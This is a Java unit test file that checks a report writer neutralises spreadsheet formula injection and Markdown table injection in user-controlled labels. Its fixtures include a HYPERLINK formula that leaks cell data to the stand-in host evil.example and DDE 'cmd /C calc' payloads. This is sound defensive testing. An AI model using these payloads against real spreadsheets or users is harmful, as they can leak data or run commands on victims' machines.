package parasol.report;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;
import org.junit.jupiter.api.Test;
import parasol.analysis.GroupStats;
import parasol.analysis.Rate;
import parasol.analysis.RunSummary;
import parasol.analysis.Trend;
import parasol.run.RunConfig;
import parasol.scheme.ResponseClass;
import parasol.store.RunRecord;

import java.io.StringWriter;
import java.time.Instant;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** Report cells that users control (run names, model and judge labels, codes) cannot act in a spreadsheet or break a Markdown table. */
class ReportCellsTest {
    private static final String MODEL = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
    private static final String RUN = "+cmd|' /C calc'!A0";
    private static final String JUDGE = "@SUM(1+1)";
    private static final String CODE = "-2+3+cmd|' /C calc'!A0";

    private static GroupStats stats(String model, String group) {
        Map<ResponseClass, Rate> classes = new EnumMap<>(ResponseClass.class);
        for (ResponseClass c : ResponseClass.values()) classes.put(c, Rate.wilson(1, 4));
        return new GroupStats(model, group, 4, Rate.wilson(1, 4), Rate.wilson(0, 0), classes);
    }

    private static ReportInput input(String run, String model, String code) {
        RunConfig config = new RunConfig(run, "s", "abc", 1, List.of(model), Map.of(model, "baseline:boundary"), List.of(JUDGE), Map.of(),
                1, 1, 0.5, 100, null, 0, "test", "intima");
        RunRecord record = new RunRecord(config, Instant.EPOCH, Instant.EPOCH, "finished", null, 4, 0, 0, 0, 4, 0);
        RunSummary summary = new RunSummary(run, JUDGE, List.of(model), List.of(stats(model, "all")), List.of(stats(model, "\tTabbed category")),
                List.of(stats(model, code), stats(model, "\rcarriage"), stats(model, "-7")), List.of(stats(model, "2")),
                List.of(new Trend(model, -0.125, -0.5, 0.25, 4, 4)), List.of(), 4, 0, 0, RunSummary.WILSON);
        return new ReportInput(record, summary, List.of());
    }

    private static List<Map<String, String>> csvReport() throws Exception {
        StringWriter out = new StringWriter();
        Reports.write(ReportFormat.CSV, input(RUN, MODEL, CODE), out);
        try (MappingIterator<Map<String, String>> rows = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(out.toString())) {
            return rows.readAll();
        }
    }

    @Test
    void noCellOfTheCsvReportStartsAFormula() throws Exception {
        List<Map<String, String>> rows = csvReport();
        assertThat(rows).isNotEmpty();
        for (Map<String, String> row : rows) {
            assertThat(row.keySet()).containsExactly("run", "judge", "model", "scope", "group", "metric", "k", "n", "rate", "ci_low", "ci_high");
            for (var cell : row.entrySet()) {
                String v = cell.getValue();
                if (v.isEmpty() || v.matches("-?\\d+(\\.\\d+)?(E-?\\d+)?|NaN")) continue;   // numbers stay numbers
                assertThat(v.charAt(0)).as("%s = %s", cell.getKey(), v).isNotIn('=', '+', '-', '@', '\t', '\r');
            }
            assertThat(row.get("run")).isEqualTo("'" + RUN);
            assertThat(row.get("judge")).isEqualTo("'" + JUDGE);
            assertThat(row.get("model")).isEqualTo("'" + MODEL);
        }
        assertThat(rows).extracting(r -> r.get("group")).contains("'" + CODE, "'\tTabbed category", "'\rcarriage", "all", "2");
    }

    @Test
    void numbersAndPlainNumericTextStayAsTheyAre() throws Exception {
        List<Map<String, String>> rows = csvReport();
        Map<String, String> trend = rows.stream().filter(r -> r.get("scope").equals("trend")).findFirst().orElseThrow();
        assertThat(trend.get("rate")).isEqualTo("-0.125");
        assertThat(trend.get("ci_low")).isEqualTo("-0.5");
        // A code that is a plain negative number is a number to a spreadsheet, not a formula.
        assertThat(rows).extracting(r -> r.get("group")).contains("-7");
        assertThat(CsvCells.neutralise(-3)).isEqualTo(-3);
        assertThat(CsvCells.neutralise(-0.5)).isEqualTo(-0.5);
        assertThat(CsvCells.neutralise("-1.5e-3")).isEqualTo("-1.5e-3");
        assertThat(CsvCells.neutralise("+44")).isEqualTo("+44");
        assertThat(CsvCells.neutralise("")).isEqualTo("");
        assertThat(CsvCells.neutralise("loneliness")).isEqualTo("loneliness");
        assertThat(CsvCells.neutralise("a=b")).isEqualTo("a=b");
    }

    @Test
    void formulaLeadingTextIsQuoted() {
        for (String formula : List.of("=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", "  =1+1", "＝1+1", "-", "--x", "=", "-1e5+cmd"))
            assertThat(CsvCells.neutralise(formula)).as(formula).isEqualTo("'" + formula);
    }

    @Test
    void aLineBreakInALabelOrCodeStaysInsideItsMarkdownTableRow() throws Exception {
        StringWriter out = new StringWriter();
        Reports.write(ReportFormat.MD, input("r1", "m\n# Injected heading", "love\r\n| x | y |"), out);
        assertThat(out.toString().lines()).noneMatch(l -> l.startsWith("# Injected") || l.startsWith("| x |"));
        assertThat(out.toString()).contains("| m # Injected heading |", "| love \\| x \\| y \\| |");
    }
}
